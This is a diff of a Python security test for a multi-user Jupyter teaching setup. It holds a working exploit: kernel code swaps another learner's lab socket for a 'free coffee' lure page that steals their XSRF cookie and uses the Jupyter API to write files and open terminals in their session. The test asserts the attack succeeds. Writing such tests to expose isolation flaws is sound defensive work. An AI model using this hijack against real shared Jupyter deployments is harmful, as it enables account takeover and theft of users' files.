@@ -78,15 +78,15 @@ print(len(many))
 """
 # In a kernel: in place of the seat's JupyterLab a page, which acts in the seat of who clicks on it.
 ATTACK = """
-import os, socketserver
-page = b'''<button>free coffee</button><script>
+import os, socketserver, threading
+page = b'''<!doctype html><button>free coffee</button><script>
 document.querySelector("button").onclick = async () => {{
   const other = open("{other}lab"), say = text => {{ document.title = text; }};
   try {{
     let token = null;
     while (!(token = other.document.cookie.match(/_xsrf=([^;]+)/)))
       await new Promise(done => setTimeout(done, 100));
-    const headers = {{ "X-XSRFToken": token[1], "Content-Type": "application/json" }};
+    const headers = {{ "X-XSRFToken": token[1] }};
     const ask = (method, route, body) =>
       other.fetch("{other}api/" + route, {{ method, body, headers }});
     const file = JSON.stringify({{ type: "file", format: "text", content: "by ada" }});
@@ -102,11 +102,10 @@ document.querySelector("button").onclick = async () => {{
 class Say(socketserver.StreamRequestHandler):
     def handle(self):
         self.request.recv(65536)
-        head = b"HTTP/1.1 200 OK\\nContent-Type: text/html\\nConnection: close\\n\\n"
-        self.wfile.write(head.replace(b"\\n", b"\\r\\n") + page)
+        self.wfile.write(b"HTTP/1.0 200 OK\\r\\n\\r\\n" + page)
 os.unlink("/run/seat/lab.sock")
 server = socketserver.ThreadingUnixStreamServer("/run/seat/lab.sock", Say)
-import threading; threading.Thread(target=server.serve_forever, daemon=True).start()
+threading.Thread(target=server.serve_forever, daemon=True).start()
 """
 TERMINALS = """async () => {
     const { terminals } = window.jupyterapp.serviceManager;
@@ -285,7 +284,6 @@ def test_without_a_domain_a_learners_page_acts_in_another_ones_seat(chromium):
         ada, bob = (Learner(hub, chromium, name) for name in ("ada", "bob"))
         for learner in (ada, bob):
             learner.log_in(LESSON)
-        for learner in (ada, bob):
             learner.opened()
         assert attack(hub, ada, bob) == ("put 201 terminal 200", 1)
         stolen = hub.folder / "homes" / "bob" / COPY.name / "stolen.txt"
